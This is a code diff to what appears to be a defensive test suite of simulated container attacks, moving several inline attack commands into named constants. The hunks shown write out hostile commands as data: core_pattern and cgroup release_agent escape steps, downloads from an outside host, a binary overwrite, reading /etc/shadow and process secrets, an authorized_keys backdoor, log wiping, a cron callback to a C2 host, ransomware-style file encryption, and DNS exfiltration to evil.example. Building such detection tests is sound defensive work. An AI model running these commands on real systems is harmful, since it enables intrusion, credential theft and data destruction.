@@ -67,6 +67,15 @@ import socket, os
 for n in range(60):
     try: socket.getaddrinfo(os.urandom(24).hex() + f".{n}.evil.example", 80)
     except OSError: pass"""
+# What the machine has is written back to it.
+CORE_PATTERN = """mount -o remount,rw /proc/sys
+cat /proc/sys/kernel/core_pattern >/tmp/was; cat /tmp/was >/proc/sys/kernel/core_pattern
+mount -o remount,ro /proc/sys"""
+RELEASE_AGENT = """mkdir /tmp/cg; mount -t cgroup -o memory cgroup /tmp/cg
+cat /tmp/cg/release_agent >/tmp/was; cat /tmp/was >/tmp/cg/release_agent
+umount /tmp/cg"""
+OVERWRITE = f"""cp /usr/bin/redis-cli /tmp/.keep; wget -q -O /tmp/g http://{OUTSIDE}/tool
+cat /tmp/g >/usr/bin/redis-cli; redis-cli; cat /tmp/.keep >/usr/bin/redis-cli"""
 PACKAGE = r"""mkdir -p /tmp/p/DEBIAN
 printf 'Package: tool\nVersion: 1\nArchitecture: all\nMaintainer: x\nDescription: x\n' > /tmp/p/DEBIAN/control
 dpkg-deb -b /tmp/p /tmp/p.deb; dpkg -i /tmp/p.deb"""
@@ -79,7 +88,7 @@ ATTACKS = (
     run("reverse shell with the app's interpreter", "app", python(REVERSE)),
     Attack("stolen key: reads /etc/shadow over ssh", "bastion", "ssh", ("cat /etc/shadow",)),
     run("program downloaded to /tmp and run", "web", f"wget -q -O /tmp/.x http://{OUTSIDE}/tool; chmod +x /tmp/.x; /tmp/.x"),
-    run("mount, remount and core_pattern", "worker", "mount -o remount,rw /proc/sys; cat /proc/sys/kernel/core_pattern >/tmp/was; cat /tmp/was >/proc/sys/kernel/core_pattern; mount -o remount,ro /proc/sys"),
+    run("mount, remount and core_pattern", "worker", CORE_PATTERN),
     itself("request forgery: the proxy asks the metadata service", "proxy", "connect", METADATA, "80", objects=(METADATA,), worker=True),
     run("service secrets read", "app", "cat /run/secrets/shop; cat /proc/1/environ"),
     Attack("the store writes authorized_keys", "store", "store",
@@ -92,7 +101,7 @@ ATTACKS = (
     Attack("stolen key: authorized_keys extended over ssh", "bastion", "ssh", ("echo 'ssh-ed25519 AAAA evil' >> /root/.ssh/authorized_keys",)),
     run("scan of the neighbours' ports", "app", python(SCAN)),
     run("logs removed", "proxy", "rm -f /var/log/nginx/access.log; : >/var/log/nginx/error.log"),
-    run("release_agent of a cgroup", "worker", "mkdir /tmp/cg; mount -t cgroup -o memory cgroup /tmp/cg; cat /tmp/cg/release_agent >/tmp/was; cat /tmp/was >/tmp/cg/release_agent; umount /tmp/cg"),
+    run("release_agent of a cgroup", "worker", RELEASE_AGENT),
     itself("backdoor listens in the service itself", "broker", "listen", "31338", objects=("31338",)),
     run("metadata service asked from a shell", "web", f"wget -q -O - http://{METADATA}/latest/meta-data/iam/security-credentials/", worker=True),
     run("code injected by ptrace", "app", python(INJECT)),
@@ -104,11 +113,10 @@ ATTACKS = (
     run("the database sent to a stranger by the app's interpreter", "app", python(STEAL)),
     itself("code made in the service's memory", "broker", "shellcode", objects=("memory", "mprotect", "shellcode")),
     run("keys packed with the job's own tar", "worker", "tar -cf /data/week.tar /etc/shadow /root/.ssh"),
-    run("program of the image overwritten", "worker",
-        f"cp /usr/bin/redis-cli /tmp/.keep; wget -q -O /tmp/g http://{OUTSIDE}/tool; cat /tmp/g >/usr/bin/redis-cli; redis-cli; cat /tmp/.keep >/usr/bin/redis-cli",
-        ("redis-cli",), lasts=True),
+    run("program of the image overwritten", "worker", OVERWRITE, ("redis-cli",), lasts=True),
     run("data exfiltrated by names", "app", python(TUNNEL)),
-    run("job extended", "worker", f"echo 'wget -q -O - http://{OUTSIDE}/c2 >/dev/null' >>/jobs/hourly.sh", (r"/jobs/hourly\.sh", OUTSIDE), lasts=True),
+    run("job extended", "worker", f"echo 'wget -q -O - http://{OUTSIDE}/c2 >/dev/null' >>/jobs/hourly.sh",
+        (r"/jobs/hourly\.sh", OUTSIDE), lasts=True),
     run("data encrypted and removed", "app", "for f in /data/uploads/*; do gzip -c $f >$f.locked; rm $f; done", (r"\.locked",)),
     Attack("new version of the broker calls home", "broker", "deploy", ("connect", OUTSIDE, "443"), (OUTSIDE,)),
     Attack("container of the attacker's mines", "rogue", "container",
